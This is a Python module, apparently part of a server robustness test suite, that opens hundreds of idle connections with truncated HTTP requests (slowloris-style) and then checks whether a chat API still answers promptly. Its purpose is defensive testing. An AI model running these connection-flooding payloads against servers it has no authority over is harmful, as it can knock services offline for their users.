"""Clients that occupy the server without saying or reading anything, while another one wants an answer."""

from __future__ import annotations

import contextlib
import socket
import time
from typing import TYPE_CHECKING

from attack_wire import Attack, send

if TYPE_CHECKING:
    from collections.abc import Iterator

    from attack_verdict import Judge, Report

_IDLE = 300
_PATIENCE_S = 5.0  # also where other programs keep the machine busy
_ASKED = b"GET /v1/info HTTP/1.1\r\nHost: a\r\nConnection: close\r\nAuthorization: Bearer app-chat-crowd\r\n\r\n"
_HALVES: dict[str, bytes] = {
    "say nothing": b"",
    "stop in the head": b"POST /v1/chat-messages HTTP/1.1\r\nHost: a\r\nX-A: ",
    "stop before the body": b"POST /v1/chat-messages HTTP/1.1\r\nHost: a\r\nContent-Length: 5000\r\n\r\n",
    "stop in the body": b"POST /v1/chat-messages HTTP/1.1\r\nHost: a\r\nContent-Length: 5000\r\n\r\n{",
    "stop in a chunk": b"POST /v1/chat-messages HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1000\r\n{",
    "ask thirty times and read nothing": _ASKED.replace(b"Connection: close\r\n", b"") * 30,
}


def attack(address: tuple[str, int], judge: Judge, report: Report) -> None:
    """Let hundreds of clients wait in one way after the other; the next one has to be answered at once."""
    for name, half in _HALVES.items():
        with contextlib.ExitStack() as stack:
            for connection in _connections(address):
                stack.enter_context(connection)
                connection.setblocking(False)
                with contextlib.suppress(OSError):
                    connection.send(half)
            asked = Attack("crowd", f"{_IDLE} clients {name}", _ASKED, "dify-chat/getInfo")
            begun = time.monotonic()
            outcome = send(address, asked)
            late = [f"answered only after {_PATIENCE_S:g} s"] if time.monotonic() - begun > _PATIENCE_S else []
            report.add(asked, outcome, [*judge.faults(asked, outcome), *late])


def _connections(address: tuple[str, int]) -> Iterator[socket.socket]:
    for _ in range(_IDLE):
        yield socket.create_connection(address, timeout=10)
